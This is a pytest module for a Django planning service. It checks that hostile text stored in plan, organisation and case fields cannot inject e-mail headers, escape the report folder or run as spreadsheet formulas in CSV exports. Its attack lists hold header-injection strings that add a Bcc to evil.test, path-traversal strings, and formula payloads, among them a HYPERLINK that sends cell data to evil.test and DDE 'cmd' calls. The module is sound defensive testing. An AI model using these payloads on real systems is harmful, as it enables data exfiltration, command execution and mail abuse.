"""Hostile text where it can do harm outside the page: e-mail headers, file paths, spreadsheets.

Rows stored before references were checked (or text in fields that are free text by design:
a plan's title, an organisation's name, a notification's title) are written with queryset
updates, then every e-mail the service sends, the report file and its download, and every
CSV export are checked: no header gains a line, no file leaves its folder, no cell runs as a
formula, and nothing fails.
"""

import csv
import email
import email.policy
import io
import re
from datetime import date

import pytest
import time_machine
from django.core import mail
from django.db import connection
from django.urls import reverse

from planner.cases.models import Case
from planner.cases.transfer import case_to_row, rows_to_csv
from planner.models import Organisation, Plan
from planner.reports import services as report_services
from planner.reports.models import ReportStatus
from tests.planner.cases.factories import CaseFactory
from tests.workflows.notifications.helpers import WEDNESDAY, deliveries, scan_at
from workflows.notifications.models import DeliveryStatus, Kind
from workflows.notifications.services import notification_send_event

pytestmark = pytest.mark.django_db

HEADER_ATTACKS = [
    "X\r\nBcc: x@evil.test",
    "X\nBcc: x@evil.test",
    "X\rBcc: x@evil.test",
    "X\r\n\r\n<html>body injected",
    "X\x00Y",
    "X\x0bY\x0cZ",
    "X\x85Bcc: x@evil.test",
    "X\u2028Bcc: x@evil.test",
]
PATH_ATTACKS = ["../../X", "../" * 12 + "etc/X", "/etc/X", "..\\..\\X", "%2e%2e%2fX", "X/../../Y"]
FORMULA_ATTACKS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")
# The only headers an e-mail of the service may carry.
HEADERS = {
    "Content-Type",
    "MIME-Version",
    "Content-Transfer-Encoding",
    "Subject",
    "From",
    "To",
    "Date",
    "Message-ID",
}


def on_this_database(text: str) -> str:
    """PostgreSQL refuses a NUL in any text column, so no stored row there can hold one; the
    rest of the attack still runs."""
    return text.replace("\x00", "") if connection.vendor == "postgresql" else text


def storable(text: str) -> str:
    """The attack as a row written before the rule could hold it in today's column."""
    return on_this_database(text)[: Plan._meta.get_field("reference").max_length]


def store(plan, text, orgs):
    text = on_this_database(text)
    Plan.objects.filter(pk=plan.pk).update(
        reference=storable(text),
        title=text,
        scoping_target=date(2027, 3, 9),
        last_decision_at=WEDNESDAY,
    )
    Organisation.objects.filter(pk=orgs["fire"].pk).update(name=text)
    plan.refresh_from_db()


def assert_safe(message):
    assert not CONTROL.search(message.subject), message.subject
    parsed = email.message_from_bytes(message.message().as_bytes(), policy=email.policy.default)
    assert set(parsed.keys()) <= HEADERS, parsed.keys()
    assert message.recipients() == message.to and len(message.to) == 1
    for name, value in parsed.items():
        assert not CONTROL.search(str(value)), (name, value)


@pytest.mark.parametrize("attack", HEADER_ATTACKS + PATH_ATTACKS)
def test_hostile_text_never_reaches_an_e_mail_header_and_every_e_mail_still_goes(
    attack, plan, police_lead, orgs, client, client_for, django_capture_on_commit_callbacks
):
    store(plan, attack, orgs)
    lead = client_for(police_lead)
    with django_capture_on_commit_callbacks(execute=True):
        invited = lead.post(
            reverse("plan_invitation_create", args=[plan.pk]),
            {
                "full_name": "Nia New",
                "email": "nia@fire.test",
                "organisation": orgs["fire"].pk,
                "role": "partner_rep",
            },
        )
    assert invited.status_code in {200, 302}
    scan_at(WEDNESDAY, django_capture_on_commit_callbacks)  # stage overdue: reference in subject
    # In working hours: in the evening a person's quiet hours would hold the e-mail until
    # the morning, and this test is about what it carries, not when it goes.
    with (
        time_machine.travel(WEDNESDAY, tick=False),
        django_capture_on_commit_callbacks(execute=True),
    ):
        notification_send_event(
            kind=Kind.STAGE_CHANGED,
            plan=plan,
            recipients=[police_lead],
            title=on_this_database(attack),
            body=on_this_database(attack),
            url=f"/plans/{plan.pk}/",
            dedupe_key="hostile",
        )
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("password_reset"), {"email": police_lead.email})

    subjects = [m.subject for m in mail.outbox]
    assert any(s.startswith("You are invited") for s in subjects), subjects
    assert any(s.startswith("Reset your password") for s in subjects), subjects
    assert deliveries().count() >= 3
    assert set(deliveries().values_list("status", flat=True)) == {DeliveryStatus.SENT}
    for message in mail.outbox:
        assert_safe(message)


@pytest.mark.parametrize("attack", HEADER_ATTACKS + PATH_ATTACKS)
def test_hostile_references_never_reach_the_report_file_or_its_download_header(
    attack, plan, police_lead, client_for, settings, tmp_path, monkeypatch
):
    from planner.access import plan_access_for_user
    from planner.reports.services import report_render_version, report_request

    settings.MEDIA_ROOT = tmp_path / "media"

    def write(html, variant, target):
        target.write_bytes(b"%PDF-1.7 test")
        return 1

    monkeypatch.setattr(report_services, "pdf_write", write)
    Plan.objects.filter(pk=plan.pk).update(reference=storable(attack))
    version = report_request(
        access=plan_access_for_user(police_lead, plan.pk),
        marking="OFFICIAL",
        purpose="decision",
    )
    assert report_render_version(version.pk) == ReportStatus.READY
    version.refresh_from_db()

    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    folder = settings.MEDIA_ROOT / f"reports/plan-{plan.pk}"
    assert written == [folder / "report-v1.docx", folder / "report-v1.pdf"]
    for name, extension in (("report_download", "pdf"), ("report_download_docx", "docx")):
        response = client_for(police_lead).get(reverse(name, args=[plan.pk, version.pk]))
        assert response.status_code == 200
        disposition = response["Content-Disposition"]
        assert not CONTROL.search(disposition)
        filename = re.search(r'filename="([^"]*)"', disposition).group(1)
        assert re.fullmatch(rf"[A-Za-z0-9-]+-report-v1\.{extension}", filename), filename


@pytest.mark.parametrize("attack", FORMULA_ATTACKS)
def test_formula_cells_are_neutralised_in_every_text_column_of_every_csv_export(attack):
    text_fields = {
        f.name: f.max_length
        for f in Case._meta.concrete_fields
        if f.get_internal_type() in {"CharField", "TextField", "SlugField", "EmailField"}
        and f.name in case_to_row(CaseFactory.build())
    }
    assert {"title", "area", "summary", "lessons"} <= set(text_fields)
    case = CaseFactory(organisations=[attack], source_urls=[attack])
    Case.objects.filter(pk=case.pk).update(
        **{name: attack[:length] for name, length in text_fields.items()}
    )
    case.refresh_from_db()

    (row,) = csv.DictReader(io.StringIO(rows_to_csv([case_to_row(case)])))

    for name, value in row.items():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    assert row["title"] == "'" + attack
